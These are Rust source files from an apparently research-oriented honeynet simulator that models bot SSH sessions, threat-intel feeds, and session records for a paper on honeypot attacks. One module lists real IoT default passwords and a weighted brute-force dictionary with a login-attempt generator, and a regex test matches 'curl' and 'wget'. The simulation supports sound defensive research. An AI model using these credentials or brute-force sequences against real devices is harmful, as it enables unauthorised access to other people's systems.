    /// the given coverage, deterministically under `seed`.
    pub fn from_ground_truth<'a, I>(truth: I, cfg: &CoverageConfig, seed: u64) -> Self
    where
        I: IntoIterator<Item = (&'a str, MalwareFamily)>,
    {
        let seeds = SeedTree::new(seed).child("abusedb");
        let mut rng = seeds.rng("hashes");
        let mut feeds: HashMap<FeedName, HashMap<String, MalwareFamily>> = HashMap::new();
        for (feed, _) in cfg.hash_coverage {
            feeds.insert(feed, HashMap::new());
        }
        for (hash, family) in truth {
            for (feed, cov) in cfg.hash_coverage {
                if rng.random::<f64>() < cov {
                    let label = if rng.random::<f64>() < cfg.generic_label_prob {
                        MalwareFamily::Malicious
                    } else {
                        family
                    };
                    feeds
                        .get_mut(&feed)
                        .expect("feed pre-inserted")
                        .insert(hash.to_string(), label);
                }
            }
        }
        Self {
            feeds,
            reported_ips: HashSet::new(),
        }
    }

    /// Inserts a manual entry into one feed (used for well-known artefacts
    /// like the `mdrfckr` public-key hash, which *is* labelled in reality).
    pub fn insert(&mut self, feed: FeedName, hash: &str, family: MalwareFamily) {
        self.feeds
            .entry(feed)
            .or_default()
            .insert(hash.to_string(), family);
    }

    /// Marks `ip` as reported by IP-reputation feeds.
    pub fn report_ip(&mut self, ip: netsim::Ipv4Addr) {
        self.reported_ips.insert(ip);
    }

    /// Whether `ip` appears in any IP-reputation feed.
    pub fn ip_reported(&self, ip: netsim::Ipv4Addr) -> bool {
        self.reported_ips.contains(&ip)
    }

    /// Number of reported IPs.
    pub fn reported_ip_count(&self) -> usize {
        self.reported_ips.len()
    }

    /// Looks `hash` up in a single feed.
    pub fn lookup_in(&self, feed: FeedName, hash: &str) -> Option<MalwareFamily> {
        self.feeds.get(&feed)?.get(hash).copied()
    }

    /// Aggregate lookup across feeds, preferring a specific family label
    /// over the generic `Malicious` verdict (as the paper does when it
    /// names cluster families).
    pub fn lookup(&self, hash: &str) -> Option<MalwareFamily> {
        let mut verdict = None;
        for feed in FeedName::ALL {
            match self.lookup_in(feed, hash) {
                Some(MalwareFamily::Malicious) => {
                    verdict = verdict.or(Some(MalwareFamily::Malicious))
                }
                Some(f) => return Some(f),
                None => {}
            }
        }
        verdict
    }

    /// Number of distinct hashes labelled by at least one feed.
    pub fn labelled_hash_count(&self) -> usize {
        let mut all: HashSet<&str> = HashSet::new();
        for m in self.feeds.values() {
            all.extend(m.keys().map(String::as_str));
        }
        all.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn truth(n: usize) -> Vec<(String, MalwareFamily)> {
        (0..n)
            .map(|i| {
                let fam = match i % 5 {
                    0 => MalwareFamily::Mirai,
                    1 => MalwareFamily::Gafgyt,
                    2 => MalwareFamily::Dofloo,
                    3 => MalwareFamily::CoinMiner,
                    _ => MalwareFamily::XorDdos,
                };
                (format!("{i:064x}"), fam)
            })
            .collect()
    }

    fn build(n: usize) -> (Vec<(String, MalwareFamily)>, AbuseDb) {
        let t = truth(n);
        let db = AbuseDb::from_ground_truth(
            t.iter().map(|(h, f)| (h.as_str(), *f)),
            &CoverageConfig::paper_defaults(),
            7,
        );
        (t, db)
    }

    #[test]
    fn coverage_is_under_five_percent() {
        let (t, db) = build(16_257);
        let frac = db.labelled_hash_count() as f64 / t.len() as f64;
        assert!(frac < 0.07, "coverage {frac} too high");
        assert!(frac > 0.02, "coverage {frac} too low");
    }

    #[test]
    fn labels_are_truth_or_generic() {
        let (t, db) = build(5_000);
        let by_hash: HashMap<&str, MalwareFamily> =
            t.iter().map(|(h, f)| (h.as_str(), *f)).collect();
        let mut specific = 0;
        let mut generic = 0;
        for (h, want) in &by_hash {
            if let Some(got) = db.lookup(h) {
                if got == MalwareFamily::Malicious {
                    generic += 1;
                } else {
                    assert_eq!(got, *want, "feed must not mislabel families");
                    specific += 1;
                }
            }
        }
        assert!(specific > 0, "some specific labels expected");
        assert!(generic > 0, "some generic labels expected");
    }

    #[test]
    fn construction_is_deterministic() {
        let (_, a) = build(2_000);
        let (_, b) = build(2_000);
        assert_eq!(a.labelled_hash_count(), b.labelled_hash_count());
    }

    #[test]
    fn manual_insert_and_priority() {
        let mut db = AbuseDb::default();
        db.insert(FeedName::TeamCymru, "deadbeef", MalwareFamily::Malicious);
        assert_eq!(db.lookup("deadbeef"), Some(MalwareFamily::Malicious));
        // A specific family from another feed wins over the generic label.
        db.insert(FeedName::VirusTotal, "deadbeef", MalwareFamily::CoinMiner);
        assert_eq!(db.lookup("deadbeef"), Some(MalwareFamily::CoinMiner));
        assert_eq!(db.lookup("cafebabe"), None);
    }

    #[test]
    fn ip_reports() {
        let mut db = AbuseDb::default();
        let ip = netsim::Ipv4Addr::from_octets(203, 0, 113, 9);
        assert!(!db.ip_reported(ip));
        db.report_ip(ip);
        assert!(db.ip_reported(ip));
        assert_eq!(db.reported_ip_count(), 1);
    }

    #[test]
    fn per_feed_lookup_is_scoped() {
        let mut db = AbuseDb::default();
        db.insert(FeedName::AbuseCh, "aa", MalwareFamily::Mirai);
        assert_eq!(
            db.lookup_in(FeedName::AbuseCh, "aa"),
            Some(MalwareFamily::Mirai)
        );
        assert_eq!(db.lookup_in(FeedName::VirusTotal, "aa"), None);
    }
}
