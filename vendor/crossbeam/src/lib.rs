//! Vendored minimal stand-in for `crossbeam`.
//!
//! Only `crossbeam::thread::scope` is used in this workspace; it is mapped
//! onto `std::thread::scope` (stable since 1.63). The crossbeam API hands
//! the scope handle back to each spawned closure, and `scope` returns a
//! `Result` capturing child panics; std re-raises child panics on join, so
//! the error arm here is unreachable in practice but kept for API parity.

pub mod thread {
    /// Scope handle passed to `scope` closures and re-passed to spawned
    /// children (crossbeam convention).
    #[derive(Clone, Copy)]
    pub struct Scope<'scope, 'env: 'scope> {
        inner: &'scope std::thread::Scope<'scope, 'env>,
    }

    impl<'scope, 'env> Scope<'scope, 'env> {
        pub fn spawn<F, T>(&self, f: F) -> std::thread::ScopedJoinHandle<'scope, T>
        where
            F: FnOnce(&Scope<'scope, 'env>) -> T + Send + 'scope,
            T: Send + 'scope,
        {
            let scope = *self;
            self.inner.spawn(move || f(&scope))
        }
    }

    pub fn scope<'env, F, R>(f: F) -> std::thread::Result<R>
    where
        F: for<'scope> FnOnce(&Scope<'scope, 'env>) -> R,
    {
        Ok(std::thread::scope(|s| f(&Scope { inner: s })))
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn scoped_threads_join_and_borrow() {
        let data = [1u64, 2, 3, 4];
        let sums = std::sync::Mutex::new(Vec::new());
        super::thread::scope(|scope| {
            for chunk in data.chunks(2) {
                scope.spawn(|_| {
                    let s: u64 = chunk.iter().sum();
                    sums.lock().unwrap().push(s);
                });
            }
        })
        .expect("no panics");
        let mut got = sums.into_inner().unwrap();
        got.sort_unstable();
        assert_eq!(got, vec![3, 7]);
    }
}
