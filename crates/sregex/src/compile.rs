//! AST → bytecode compilation for the backtracking VM.

use crate::ast::{Ast, ClassItem};

/// One VM instruction. Program counters are indices into
/// [`Program::insts`]; lookahead bodies live in [`Program::subs`].
#[derive(Debug, Clone)]
pub enum Inst {
    /// Match a single byte.
    Byte(u8),
    /// Match any byte except `\n`.
    Any,
    /// Match a character class.
    Class {
        negated: bool,
        items: Vec<ClassItem>,
    },
    /// Try `preferred` first, fall back to `alternate` on failure.
    Split { preferred: usize, alternate: usize },
    /// Unconditional jump.
    Jump(usize),
    /// Assert start of haystack.
    AssertStart,
    /// Assert end of haystack.
    AssertEnd,
    /// Assert a word boundary (`true`) or its absence (`false`).
    WordBoundary(bool),
    /// Record the current position in mark slot `slot`.
    SetMark(usize),
    /// Jump to `target` iff the position advanced past mark `slot`
    /// (used to break out of loops whose body matched the empty string).
    JumpIfProgress { slot: usize, target: usize },
    /// Run sub-program `sub` at the current position as a zero-width
    /// assertion; `positive` selects lookahead vs negative lookahead.
    Lookahead { positive: bool, sub: usize },
    /// Successful match.
    Match,
}

/// A compiled program plus its lookahead sub-programs.
#[derive(Debug, Clone, Default)]
pub struct Program {
    /// Instruction sequence; entry point is index 0.
    pub insts: Vec<Inst>,
    /// Lookahead bodies, each a complete program ending in `Match`.
    pub subs: Vec<Program>,
    /// Number of mark slots the VM must allocate.
    pub marks: usize,
}

/// Compiles `ast` into an executable [`Program`].
pub fn compile(ast: &Ast) -> Program {
    let mut c = Compiler {
        prog: Program::default(),
    };
    c.emit_node(ast);
    c.prog.insts.push(Inst::Match);
    c.prog
}

struct Compiler {
    prog: Program,
}

impl Compiler {
    fn pc(&self) -> usize {
        self.prog.insts.len()
    }

    fn push(&mut self, inst: Inst) -> usize {
        self.prog.insts.push(inst);
        self.prog.insts.len() - 1
    }

    fn patch_split_alt(&mut self, at: usize, alternate: usize) {
        match &mut self.prog.insts[at] {
            Inst::Split { alternate: a, .. } => *a = alternate,
            other => panic!("patch_split_alt on {other:?}"),
        }
    }

    fn patch_jump(&mut self, at: usize, target: usize) {
        match &mut self.prog.insts[at] {
            Inst::Jump(t) => *t = target,
            other => panic!("patch_jump on {other:?}"),
        }
    }

    fn emit_node(&mut self, ast: &Ast) {
        match ast {
            Ast::Empty => {}
            Ast::Byte(b) => {
                self.push(Inst::Byte(*b));
            }
            Ast::AnyByte => {
                self.push(Inst::Any);
            }
            Ast::Class { negated, items } => {
                self.push(Inst::Class {
                    negated: *negated,
                    items: items.clone(),
                });
            }
            Ast::StartAnchor => {
                self.push(Inst::AssertStart);
            }
            Ast::EndAnchor => {
                self.push(Inst::AssertEnd);
            }
            Ast::WordBoundary(positive) => {
                self.push(Inst::WordBoundary(*positive));
            }
            Ast::Group(inner) => self.emit_node(inner),
            Ast::Concat(parts) => {
                for p in parts {
                    self.emit_node(p);
                }
            }
            Ast::Alternate(branches) => self.emit_alternate(branches),
            Ast::Repeat {
                node,
                min,
                max,
                greedy,
            } => self.emit_repeat(node, *min, *max, *greedy),
            Ast::Lookahead { positive, node } => {
                let sub = compile(node);
                self.prog.subs.push(sub);
                let idx = self.prog.subs.len() - 1;
                self.push(Inst::Lookahead {
                    positive: *positive,
                    sub: idx,
                });
            }
        }
    }

    fn emit_alternate(&mut self, branches: &[Ast]) {
        // branch0 | branch1 | … lowers to a chain of Splits with a shared
        // exit collected via Jump patching.
        let mut exit_jumps = Vec::new();
        for (i, branch) in branches.iter().enumerate() {
            let last = i + 1 == branches.len();
            if last {
                self.emit_node(branch);
            } else {
                let split = self.push(Inst::Split {
                    preferred: 0,
                    alternate: 0,
                });
                let body = self.pc();
                match &mut self.prog.insts[split] {
                    Inst::Split { preferred, .. } => *preferred = body,
                    _ => unreachable!(),
                }
                self.emit_node(branch);
                exit_jumps.push(self.push(Inst::Jump(0)));
                let next_branch = self.pc();
                self.patch_split_alt(split, next_branch);
            }
        }
        let exit = self.pc();
        for j in exit_jumps {
            self.patch_jump(j, exit);
        }
    }

    fn emit_repeat(&mut self, node: &Ast, min: u32, max: Option<u32>, greedy: bool) {
        // Mandatory prefix: `min` copies.
        for _ in 0..min {
            self.emit_node(node);
        }
        match max {
            Some(max) => {
                // (max - min) optional copies, each guarded by a Split.
                let mut splits = Vec::new();
                for _ in min..max {
                    let split = self.push(Inst::Split {
                        preferred: 0,
                        alternate: 0,
                    });
                    let body = self.pc();
                    match &mut self.prog.insts[split] {
                        Inst::Split { preferred, .. } => *preferred = body,
                        _ => unreachable!(),
                    }
                    splits.push(split);
                    self.emit_node(node);
                }
                let exit = self.pc();
                for split in splits {
                    if greedy {
                        self.patch_split_alt(split, exit);
                    } else {
                        // Lazy: prefer skipping, fall back into the body.
                        let body = match self.prog.insts[split] {
                            Inst::Split { preferred, .. } => preferred,
                            _ => unreachable!(),
                        };
                        self.prog.insts[split] = Inst::Split {
                            preferred: exit,
                            alternate: body,
                        };
                    }
                }
            }
            None => {
                // Unbounded tail: loop with empty-progress guard.
                let slot = self.prog.marks;
                self.prog.marks += 1;
                let loop_head = self.push(Inst::Split {
                    preferred: 0,
                    alternate: 0,
                });
                let body = self.pc();
                self.push(Inst::SetMark(slot));
                self.emit_node(node);
                self.push(Inst::JumpIfProgress {
                    slot,
                    target: loop_head,
                });
                let exit = self.pc();
                if greedy {
                    self.prog.insts[loop_head] = Inst::Split {
                        preferred: body,
                        alternate: exit,
                    };
                } else {
                    self.prog.insts[loop_head] = Inst::Split {
                        preferred: exit,
                        alternate: body,
                    };
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::parse;

    fn compile_pat(p: &str) -> Program {
        compile(&parse(p).unwrap())
    }

    #[test]
    fn literal_program_shape() {
        let p = compile_pat("ab");
        assert_eq!(p.insts.len(), 3); // Byte, Byte, Match
        assert!(matches!(p.insts[2], Inst::Match));
    }

    #[test]
    fn star_allocates_mark() {
        let p = compile_pat("a*");
        assert_eq!(p.marks, 1);
    }

    #[test]
    fn bounded_repeat_unrolls() {
        let p = compile_pat("a{2,4}");
        let bytes = p
            .insts
            .iter()
            .filter(|i| matches!(i, Inst::Byte(b'a')))
            .count();
        assert_eq!(bytes, 4);
        let splits = p
            .insts
            .iter()
            .filter(|i| matches!(i, Inst::Split { .. }))
            .count();
        assert_eq!(splits, 2);
    }

    #[test]
    fn lookahead_compiles_to_subprogram() {
        let p = compile_pat("(?=.*curl)(?=.*wget)x");
        assert_eq!(p.subs.len(), 2);
        assert!(p
            .subs
            .iter()
            .all(|s| matches!(s.insts.last(), Some(Inst::Match))));
    }

    #[test]
    fn nested_lookahead_subprograms() {
        let p = compile_pat("(?=a(?=b))");
        assert_eq!(p.subs.len(), 1);
        assert_eq!(p.subs[0].subs.len(), 1);
    }
}
