//! Credential dictionaries (paper §8).
//!
//! The honeynet accepts `root` with any password except `root`, so what a
//! bot *supplies* is what the password analysis (Fig. 10) sees. This module
//! centralises the special credentials the paper discusses plus a generic
//! brute-force dictionary for background scouting traffic.

use rand::rngs::StdRng;
use rand::Rng;

/// The login-only credential of §8: 24M sessions starting 2022-12-08 18:00
/// UTC, possibly a Polycom CX600 default, 99.4 % IP overlap with `mdrfckr`.
pub const CRED_3245: &str = "3245gs5662d34";

/// Default password of Dreambox Enigma(1) TV boxes.
pub const CRED_DREAMBOX: &str = "dreambox";

/// Default password of the Dasan H660DW TV box; used in sync with
/// [`CRED_DREAMBOX`] by the same TV-box Mirai botnet.
pub const CRED_VERTEX: &str = "vertex25ektks123";

/// Cowrie default usernames used for honeypot fingerprinting.
pub const USER_PHIL: &str = "phil";
/// The pre-2020 Cowrie default username.
pub const USER_RICHARD: &str = "richard";

/// Top generic passwords (beyond the specials) with relative weights,
/// roughly mirroring common brute-force dictionaries.
pub const GENERIC_PASSWORDS: &[(&str, u32)] = &[
    ("admin", 100),
    ("1234", 85),
    ("123456", 8),
    ("password", 6),
    ("12345678", 5),
    ("root123", 5),
    ("qwerty", 4),
    ("111111", 4),
    ("abc123", 3),
    ("letmein", 3),
    ("default", 3),
    ("toor", 2),
    ("pass", 2),
    ("changeme", 2),
    ("raspberry", 2),
    ("ubnt", 2),
    ("support", 2),
    ("oracle", 1),
    ("guest", 1),
    ("test", 1),
];

/// Draws the password a command-executing bot brute-forces with. The
/// distribution is calibrated so that, at dataset scale, `admin` and
/// `1234` surface as top generic passwords (Fig. 10) while the long tail
/// of per-bot dictionaries keeps any other single password small.
pub fn draw_attack_password(rng: &mut StdRng) -> String {
    let u: f64 = rng.random();
    if u < 0.09 {
        "admin".to_string()
    } else if u < 0.16 {
        "1234".to_string()
    } else if u < 0.21 {
        draw_generic(rng).to_string()
    } else {
        // Long tail: dictionary entries effectively unique at our scale.
        const CS: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
        let n = rng.random_range(6..12);
        (0..n)
            .map(|_| CS[rng.random_range(0..CS.len())] as char)
            .collect()
    }
}

/// Draws a generic password by weight.
pub fn draw_generic(rng: &mut StdRng) -> &'static str {
    let total: u32 = GENERIC_PASSWORDS.iter().map(|(_, w)| w).sum();
    let mut pick = rng.random_range(0..total);
    for (pw, w) in GENERIC_PASSWORDS {
        if pick < *w {
            return pw;
        }
        pick -= w;
    }
    GENERIC_PASSWORDS[0].0
}

/// A short brute-force attempt list ending in a success candidate: the
/// scouting path tries a few failures first, like real dictionary runs.
pub fn bruteforce_ladder(rng: &mut StdRng, final_password: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let failures = rng.random_range(0..3);
    for _ in 0..failures {
        // `root:root` is the one combination Cowrie rejects, so it is the
        // canonical failed attempt.
        out.push(("root".to_string(), "root".to_string()));
    }
    out.push(("root".to_string(), final_password.to_string()));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn generic_draw_is_weighted_and_deterministic() {
        let mut rng = StdRng::seed_from_u64(1);
        let mut counts = std::collections::HashMap::new();
        for _ in 0..10_000 {
            *counts.entry(draw_generic(&mut rng)).or_insert(0u32) += 1;
        }
        // "admin" outnumbers "guest" decisively.
        assert!(counts["admin"] > counts.get("guest").copied().unwrap_or(0) * 5);
        // Determinism.
        let mut rng2 = StdRng::seed_from_u64(1);
        assert_eq!(
            draw_generic(&mut StdRng::seed_from_u64(1)),
            draw_generic(&mut rng2)
        );
    }

    #[test]
    fn ladder_ends_with_target() {
        let mut rng = StdRng::seed_from_u64(2);
        for _ in 0..50 {
            let l = bruteforce_ladder(&mut rng, "admin");
            assert_eq!(l.last().unwrap().1, "admin");
            assert!(l.len() <= 3);
            // All non-final attempts use the rejected root:root combo.
            for (u, p) in &l[..l.len() - 1] {
                assert_eq!((u.as_str(), p.as_str()), ("root", "root"));
            }
        }
    }

    #[test]
    fn special_credentials_are_exact() {
        assert_eq!(CRED_3245, "3245gs5662d34");
        assert_eq!(CRED_VERTEX, "vertex25ektks123");
    }
}
