//! Replays one day of honeynet traffic through the discrete-event engine:
//! every TCP handshake, command round-trip, close and idle timeout is an
//! explicit event on the `netsim` scheduler, and sessions interleave across
//! sensors exactly as their timestamps dictate.
//!
//! This is the "live" view of what the bulk generator computes in closed
//! form — useful for watching the honeynet breathe, and a full-system
//! exercise of the event scheduler + TCP state machine.
//!
//! ```sh
//! cargo run --release --example live_day            # 2022-03-17 (a dip day!)
//! cargo run --release --example live_day -- 2023-06-05
//! ```

use honeylab::botnet::storage::StorageConfig;
use honeylab::botnet::{catalog, Archetype, BotCtx, StorageEcosystem, StorageStore};
use honeylab::honeypot::{AuthPolicy, Collector, Fleet, SessionInput, SessionSim};
use honeylab::hutil::rng::SeedTree;
use honeylab::hutil::Date;
use honeylab::netsim::latency::LatencyModel;
use honeylab::netsim::tcp::{Connection, IDLE_TIMEOUT_SECS};
use honeylab::netsim::{Ipv4Addr, Scheduler};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// The per-connection events of the simulated day.
enum Ev {
    /// A bot opens a TCP connection (SYN).
    Open { conn: usize },
    /// The three-way handshake completes; the SSH dialogue runs.
    Established { conn: usize },
    /// The client tears the connection down.
    Close { conn: usize },
    /// The honeypot's idle timer polls the connection.
    IdlePoll { conn: usize },
}

struct PlannedSession {
    bot: Archetype,
    client_ip: Ipv4Addr,
    sensor_id: u16,
    sensor_ip: Ipv4Addr,
    idle_out: bool,
}

fn main() {
    let day = std::env::args()
        .nth(1)
        .and_then(|s| {
            let mut it = s.split('-');
            Some(Date::new(
                it.next()?.parse().ok()?,
                it.next()?.parse().ok()?,
                it.next()?.parse().ok()?,
            ))
        })
        .unwrap_or(Date::new(2022, 3, 17)); // inside a documented mdrfckr dip

    let seeds = SeedTree::new(7);
    let mut rng: StdRng = seeds.rng("live-day");

    // A small fleet and storage ecosystem for the demo.
    let fleet = Fleet::new(
        |i| (65_000 + (i % 13) as u32, Ipv4Addr(0x6400_0000 + i as u32)),
        24,
    );
    let storage_cfg = StorageConfig::paper_defaults(day.plus_days(-30), day.plus_days(30));
    let eco = StorageEcosystem::new(&storage_cfg, seeds.child("eco"), |i, _| {
        (
            65_500 + (i % 20) as u32,
            Ipv4Addr(0x2000_0000 + i as u32 * 5),
            None,
        )
    });
    let store = StorageStore::new(&eco, day);
    let latency = LatencyModel::new(3);
    let sim = SessionSim::new(AuthPolicy::default(), &store, latency);
    let collector = Collector::new();

    // Plan the day from the campaign catalog (heavily scaled down).
    const DEMO_SCALE: f64 = 20_000.0;
    let mut planned: Vec<PlannedSession> = Vec::new();
    let mut conns: Vec<Connection> = Vec::new();
    let mut scheduler: Scheduler<Ev> = Scheduler::new(day.at_midnight());
    for spec in catalog() {
        let mut rate = spec.rate(day);
        // The mdrfckr dips apply here just as in the bulk driver.
        if matches!(
            spec.bot,
            Archetype::MdrfckrInitial | Archetype::MdrfckrVariant
        ) && honeylab::botnet::events::in_dip(day)
        {
            rate *= 0.002;
        }
        let expected = rate / DEMO_SCALE;
        let n = expected.floor() as u64 + u64::from(rng.random::<f64>() < expected.fract());
        for _ in 0..n {
            let sensor = fleet
                .get(rng.random_range(0..fleet.len()) as u16)
                .expect("sensor exists");
            let client_ip = Ipv4Addr(0x0a00_0000 + rng.random_range(0..0xffff));
            let at = day.at_midnight().plus_secs(rng.random_range(0..86_400));
            let conn = conns.len();
            conns.push(Connection::open(
                client_ip,
                1024 + rng.random_range(0..60_000) as u16,
                sensor.ip,
                22,
                at,
            ));
            planned.push(PlannedSession {
                bot: spec.bot,
                client_ip,
                sensor_id: sensor.id,
                sensor_ip: sensor.ip,
                idle_out: rng.random::<f64>() < 0.05,
            });
            scheduler.schedule(at, Ev::Open { conn });
        }
    }
    println!(
        "== live honeynet day {day}: {} planned sessions ==",
        planned.len()
    );

    // Run the event loop.
    let mut timeouts = 0u32;
    let mut completed = 0u32;
    scheduler.run(|sched, now, ev| match ev {
        Ev::Open { conn } => {
            // SYN→SYNACK→ACK takes one RTT-ish.
            sched.schedule(now.plus_secs(1), Ev::Established { conn });
        }
        Ev::Established { conn } => {
            conns[conn].establish(now);
            let plan = &planned[conn];
            let mut bot_rng: StdRng =
                StdRng::seed_from_u64(hutil::rng::derive_seed(99, &format!("bot/{conn}")));
            let mut ctx = BotCtx {
                rng: &mut bot_rng,
                date: now.date(),
                client_ip: plan.client_ip,
                self_host: false,
                storage: &eco,
            };
            let content = plan.bot.session(&mut ctx);
            let n_cmds = content.commands.len() as u64;
            let rec = sim.run(SessionInput {
                honeypot_id: plan.sensor_id,
                honeypot_ip: plan.sensor_ip,
                client_ip: plan.client_ip,
                client_port: conns[conn].client().1,
                protocol: content.protocol,
                start: now,
                client_version: content.client_version,
                logins: content.logins,
                commands: content.commands,
                idle_out: plan.idle_out,
            });
            // Mirror the application dialogue onto the TCP connection.
            conns[conn].transfer(now, 200 + n_cmds * 120, 300 + n_cmds * 80);
            let end = rec.end;
            collector.ingest(rec);
            if plan.idle_out {
                sched.schedule(end, Ev::IdlePoll { conn });
            } else {
                sched.schedule(end, Ev::Close { conn });
            }
        }
        Ev::Close { conn } => {
            if conns[conn].state() == honeylab::netsim::TcpState::Established {
                conns[conn].close(now);
                completed += 1;
            }
        }
        Ev::IdlePoll { conn } => {
            if conns[conn].poll_timeout(now) {
                timeouts += 1;
            } else if conns[conn].state() == honeylab::netsim::TcpState::Established {
                sched.schedule(now.plus_secs(IDLE_TIMEOUT_SECS), Ev::IdlePoll { conn });
            }
        }
    });

    println!(
        "events fired: {}  connections closed: {completed}  idle timeouts: {timeouts}",
        scheduler.fired()
    );
    let dataset = collector.into_dataset();
    let mut hourly = [0u32; 24];
    for rec in &dataset {
        hourly[rec.start.hour() as usize] += 1;
    }
    println!("\nhourly session histogram:");
    for (h, n) in hourly.iter().enumerate() {
        println!("  {h:02}:00 {:<40} {n}", "#".repeat((*n as usize).min(40)));
    }
    let mdrfckr = dataset
        .iter()
        .filter(|r| r.command_text().contains("mdrfckr"))
        .count();
    println!(
        "\nmdrfckr sessions today: {mdrfckr} {}",
        if honeylab::botnet::events::in_dip(day) {
            "(documented dip window!)"
        } else {
            ""
        }
    );
    let classifier = honeylab::core::classify::Classifier::table1();
    let mut cats: std::collections::BTreeMap<&str, u32> = std::collections::BTreeMap::new();
    for rec in &dataset {
        if !rec.commands.is_empty() {
            *cats
                .entry(classifier.classify(&rec.command_text()))
                .or_default() += 1;
        }
    }
    println!("\ncategories observed:");
    let mut cats: Vec<_> = cats.into_iter().collect();
    cats.sort_by_key(|entry| std::cmp::Reverse(entry.1));
    for (label, n) in cats.into_iter().take(12) {
        println!("  {label:<24} {n}");
    }
}
