//! The session-record schema (paper §3.2).
//!
//! This is the contract between the sensors and the analysis pipeline: for
//! each session the honeypot records timing, endpoints, the client SSH
//! version, every login attempt, every command (tagged known/unknown),
//! every URI seen in commands, and a SHA-256 for every file created or
//! modified. Nothing else crosses the boundary — in particular, file
//! *contents* never do.

use hutil::DateTime;
use netsim::Ipv4Addr;

/// Which service the client spoke.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Protocol {
    /// TCP/22.
    Ssh,
    /// TCP/23.
    Telnet,
}

/// How the session ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionEndReason {
    /// Client tore the connection down.
    ClientClose,
    /// The honeypot's 3-minute idle timer fired.
    Timeout,
}

/// One credential attempt.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LoginAttempt {
    /// Username as supplied.
    pub username: String,
    /// Password as supplied.
    pub password: String,
    /// Whether the honeypot accepted it.
    pub success: bool,
}

/// One executed command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandRecord {
    /// The raw input line.
    pub input: String,
    /// Whether the shell emulated it ("known") or merely recorded it.
    pub known: bool,
}

/// What happened to a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FileOp {
    /// File came into existence; hash of its content.
    Created {
        /// SHA-256 (hex) of the content.
        sha256: String,
    },
    /// Content replaced/extended; hash of the new content.
    Modified {
        /// SHA-256 (hex) of the new content.
        sha256: String,
    },
    /// File removed.
    Deleted,
    /// A command tried to execute the file. `sha256` is present when the
    /// file existed (created/downloaded earlier in the session) and absent
    /// when it was never captured — the paper's "file missing" case, caused
    /// by transfer methods Cowrie does not emulate (scp/rsync/SFTP).
    ExecAttempt {
        /// Hash if the file existed at exec time.
        sha256: Option<String>,
    },
    /// A download command ran but the remote store had nothing for the URI
    /// (dead dropper). No file was created.
    DownloadFailed,
}

/// A file event inside a session.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileEvent {
    /// Absolute path after shell resolution.
    pub path: String,
    /// The operation.
    pub op: FileOp,
    /// For files written by a download command: the URI they came from
    /// (Cowrie stores retrieved files keyed by URL). `None` for local
    /// writes (echo/cat/dd/…).
    pub source_uri: Option<String>,
}

/// Everything one honeypot records about one session.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SessionRecord {
    /// Collector-assigned id (dense, in arrival order).
    pub session_id: u64,
    /// Which sensor.
    pub honeypot_id: u16,
    /// Sensor address.
    pub honeypot_ip: Ipv4Addr,
    /// Client address.
    pub client_ip: Ipv4Addr,
    /// Client source port.
    pub client_port: u16,
    /// Service.
    pub protocol: Protocol,
    /// TCP handshake completion time.
    pub start: DateTime,
    /// Session end (close or timeout).
    pub end: DateTime,
    /// Why it ended.
    pub end_reason: SessionEndReason,
    /// Client identification string (SSH only).
    pub client_version: Option<String>,
    /// Login attempts in order.
    pub logins: Vec<LoginAttempt>,
    /// Commands in order (empty unless a login succeeded).
    pub commands: Vec<CommandRecord>,
    /// URIs extracted from commands.
    pub uris: Vec<String>,
    /// File events in order.
    pub file_events: Vec<FileEvent>,
}

impl SessionRecord {
    /// Did any login attempt succeed?
    pub fn login_succeeded(&self) -> bool {
        self.logins.iter().any(|l| l.success)
    }

    /// The accepted password, if any.
    pub fn accepted_password(&self) -> Option<&str> {
        self.logins
            .iter()
            .find(|l| l.success)
            .map(|l| l.password.as_str())
    }

    /// The username that logged in, if any.
    pub fn accepted_username(&self) -> Option<&str> {
        self.logins
            .iter()
            .find(|l| l.success)
            .map(|l| l.username.as_str())
    }

    /// Whether any command altered honeypot state (file create/modify/
    /// delete — the Fig. 1 split).
    pub fn changes_state(&self) -> bool {
        self.file_events.iter().any(|e| {
            matches!(
                e.op,
                FileOp::Created { .. } | FileOp::Modified { .. } | FileOp::Deleted
            )
        })
    }

    /// The paper's Fig. 1 notion of "changing the state": file mutations
    /// *or* attempted executions (Fig. 3 groups both under sessions that
    /// change the honeypot's initial state).
    pub fn paper_state_changing(&self) -> bool {
        self.changes_state() || self.attempts_exec()
    }

    /// Whether any command attempted to execute a file (Fig. 3b/4).
    pub fn attempts_exec(&self) -> bool {
        self.file_events
            .iter()
            .any(|e| matches!(e.op, FileOp::ExecAttempt { .. }))
    }

    /// Hashes of files whose execution was attempted and that existed
    /// ("file exists" in Fig. 4a).
    pub fn exec_hashes(&self) -> impl Iterator<Item = &str> {
        self.file_events.iter().filter_map(|e| match &e.op {
            FileOp::ExecAttempt { sha256: Some(h) } => Some(h.as_str()),
            _ => None,
        })
    }

    /// Whether some exec attempt referenced a file the honeypot never saw
    /// ("file missing" in Fig. 4b).
    pub fn has_missing_exec(&self) -> bool {
        self.file_events
            .iter()
            .any(|e| matches!(e.op, FileOp::ExecAttempt { sha256: None }))
    }

    /// All hashes of files created or modified during the session.
    pub fn dropped_hashes(&self) -> impl Iterator<Item = &str> {
        self.file_events.iter().filter_map(|e| match &e.op {
            FileOp::Created { sha256 } | FileOp::Modified { sha256 } => Some(sha256.as_str()),
            _ => None,
        })
    }

    /// The single command string for classification: Cowrie logs each line;
    /// the paper classifies per session on the concatenation.
    pub fn command_text(&self) -> String {
        let mut s = String::new();
        for (i, c) in self.commands.iter().enumerate() {
            if i > 0 {
                s.push('\n');
            }
            s.push_str(&c.input);
        }
        s
    }

    /// Session duration in seconds.
    pub fn duration_secs(&self) -> i64 {
        self.end.secs_since(self.start)
    }
}

#[cfg(test)]
